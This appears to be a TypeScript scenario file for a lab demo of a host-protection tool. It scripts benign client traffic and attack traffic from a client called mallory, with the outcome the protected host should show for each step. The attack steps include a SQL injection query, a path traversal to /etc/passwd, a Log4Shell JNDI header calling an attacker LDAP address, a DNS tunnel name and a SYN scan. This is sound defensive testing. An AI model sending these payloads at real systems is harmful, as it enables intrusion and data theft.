// What the clients do, in order: benign traffic from alice, then attacks from
// mallory, each with the outcome a protected host should show. Every client
// command is bounded (curl --max-time, dig +time, nmap --host-timeout).
import type { Lab } from './lab.js';
import { TUNNEL_SUFFIX } from './servers.js';
import type { RunResult } from './proc.js';

export type Outcome = 'answered' | 'blocked';

export interface Step {
  who: 'alice' | 'mallory';
  title: string;
  argv: string[];
  /** What a protected host shows; the offline fallback enforces only kernel rules. */
  expect: { live: Outcome; offline: Outcome };
  timeoutMs: number;
  /** Reads the client's result: answered or not, and a short description. */
  judge(r: RunResult): { outcome: Outcome; text: string };
  /** Marks the step whose flow shows the fast path (punts before/after). */
  fastPath?: boolean;
  /**
   * `secuxflow` commands the operator runs on the protected host before the
   * client's, in live mode (the offline fallback has no penalty box to edit).
   */
  operator?: string[][];
}

const curl = (maxTimeSec: number): string[] => ['curl', '-sS', '-o', '/dev/null', '-w', '%{http_code} %{size_download} %{time_total}', '--connect-timeout', '2', '--max-time', String(maxTimeSec)];
// Benign requests get room for a loaded machine; an attack's wait is how long "blocked" takes to show.
const CURL_BENIGN = curl(6);
const CURL_BASE = curl(3);

function judgeCurl(r: RunResult): { outcome: Outcome; text: string } {
  const [code, size, secs] = r.stdout.trim().split(' ');
  if (r.code === 0 && code && code !== '000') {
    return { outcome: 'answered', text: `HTTP ${code}, ${Number(size).toLocaleString('en-US')} bytes in ${Math.round(Number(secs) * 1000)} ms` };
  }
  const why = r.code === 28 ? 'no response, timed out' : r.code === 7 ? 'could not connect' : r.code === 52 ? 'empty reply' : r.code === 56 ? 'connection reset' : `curl exit ${r.code}`;
  return { outcome: 'blocked', text: `${why} after ${(r.ms / 1000).toFixed(1)} s` };
}

function judgeDig(r: RunResult): { outcome: Outcome; text: string } {
  const status = /status: (\w+)/.exec(r.stdout)?.[1];
  if (!status) return { outcome: 'blocked', text: `no answer, timed out after ${(r.ms / 1000).toFixed(1)} s` };
  const answer = r.stdout.split('\n').find((l) => /\sIN\s+(A|AAAA|TXT)\s/.test(l) && !l.startsWith(';'));
  return { outcome: 'answered', text: `${status}${answer ? `: ${answer.trim().split(/\s+/).slice(3).join(' ')}` : ''}` };
}

function judgeNmap(r: RunResult): { outcome: Outcome; text: string } {
  const open = [...r.stdout.matchAll(/<port protocol="tcp" portid="(\d+)"><state state="open"/g)].map((m) => m[1]);
  const filtered = (r.stdout.match(/state="filtered"/g) ?? []).length;
  const extra = /<extraports state="(\w+)" count="(\d+)"/g;
  const counts = [...r.stdout.matchAll(extra)].map((m) => `${m[2]} ${m[1]}`);
  if (!r.stdout.includes('<runstats>')) return { outcome: 'blocked', text: `nmap did not finish (exit ${r.code})` };
  // --host-timeout ends the scan early once every probe goes unanswered (the penalty box)
  const cut = /timedout="true"/.test(r.stdout) ? ', cut short by --host-timeout (probes went unanswered)' : '';
  return { outcome: 'answered', text: `scan ended after ${(r.ms / 1000).toFixed(1)} s${cut}: open ports found: ${open.join(',') || 'none'}${counts.length ? `; ${counts.join(', ')}` : ''}${filtered ? `; ${filtered} filtered` : ''}` };
}

/** A long base32-looking label, as DNS tunnels (iodine, dnscat2) send. */
const TUNNEL_NAME = `mfrggzdfmztwq2lknnwg23tpobyxe43uov3ho6dzpjrggzdfmzt.nbswy3dpeb3w64tmmq.${TUNNEL_SUFFIX}`;

export function scenario(lab: Lab): Step[] {
  const web = `http://${lab.hostAddr}`;
  const asMallory = ['--interface', lab.mallory];
  const dig = (...args: string[]): string[] => ['dig', `@${lab.hostAddr}`, '+tries=1', '+time=2', '+nocookie', ...args];
  const digBenign = (...args: string[]): string[] => ['dig', `@${lab.hostAddr}`, '+tries=2', '+time=3', '+nocookie', ...args];
  const both = (o: Outcome) => ({ live: o, offline: o });
  return [
    { who: 'alice', title: `curl ${web}/ (the shop's home page)`, argv: [...CURL_BENIGN, `${web}/`], expect: both('answered'), timeoutMs: 9000, judge: judgeCurl },
    { who: 'alice', title: `curl ${web}/search?q=blue+widget`, argv: [...CURL_BENIGN, `${web}/search?q=blue+widget`], expect: both('answered'), timeoutMs: 9000, judge: judgeCurl },
    { who: 'alice', title: 'dig www.acme.test A', argv: digBenign('-b', lab.alice, 'www.acme.test', 'A'), expect: both('answered'), timeoutMs: 9000, judge: judgeDig },
    { who: 'alice', title: `curl -6 http://[${lab.hostAddr6}]/ (IPv6)`, argv: [...CURL_BENIGN, '-6', `http://[${lab.hostAddr6}]/`], expect: both('answered'), timeoutMs: 9000, judge: judgeCurl },
    { who: 'alice', title: `curl ${web}/download (4 MB: the flow moves into the kernel)`, argv: [...curl(10), `${web}/download`], expect: both('answered'), timeoutMs: 14000, judge: judgeCurl, fastPath: true },
    { who: 'mallory', title: `curl "${web}/search?q=1' OR '1'='1" (SQL injection)`, argv: [...CURL_BASE, ...asMallory, `${web}/search?q=1%27%20OR%20%271%27%3D%271`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
    { who: 'mallory', title: `curl --path-as-is ${web}/static/../../../etc/passwd (path traversal)`, argv: [...CURL_BASE, ...asMallory, '--path-as-is', `${web}/static/../../../etc/passwd`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
    { who: 'mallory', title: 'curl -H "User-Agent: ${jndi:ldap://…}" (Log4Shell)', argv: [...CURL_BASE, ...asMallory, '-H', `User-Agent: \${jndi:ldap://${lab.mallory}:1389/a}`, `${web}/`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
    { who: 'mallory', title: 'dig ads.tracker.test A (blocklisted name)', argv: dig('-b', lab.mallory, 'ads.tracker.test', 'A'), expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeDig },
    { who: 'mallory', title: 'dig TXT <base32 labels>.t.exfil.test (DNS tunnel)', argv: dig('-b', lab.mallory, TUNNEL_NAME, 'TXT'), expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeDig },
    {
      who: 'mallory',
      title: `nmap -sS -p 1-200 ${lab.hostAddr} (SYN scan)`,
      argv: ['nmap', '-sS', '-Pn', '-n', '-p', '1-200', '-S', lab.mallory, '-e', lab.clientIf, '--max-retries', '1', '--host-timeout', '8s', '--max-rtt-timeout', '200ms', '-oX', '-', lab.hostAddr],
      expect: both('answered'),
      timeoutMs: 30000,
      judge: judgeNmap,
    },
    { who: 'mallory', title: `curl ${web}/ (an ordinary request, after the scan)`, argv: [...CURL_BASE, ...asMallory, `${web}/`], expect: { live: 'blocked', offline: 'answered' }, timeoutMs: 6000, judge: judgeCurl },
    { who: 'alice', title: `curl ${web}/ (alice is not affected)`, argv: [...CURL_BENIGN, `${web}/`], expect: both('answered'), timeoutMs: 9000, judge: judgeCurl },
    {
      who: 'mallory',
      title: `curl ${web}/ (after the operator lifts the block: secuxflow block delete ${lab.mallory})`,
      operator: [['block', 'list'], ['block', 'delete', lab.mallory]],
      argv: [...CURL_BENIGN, ...asMallory, `${web}/`],
      expect: both('answered'),
      timeoutMs: 9000,
      judge: judgeCurl,
    },
  ];
}
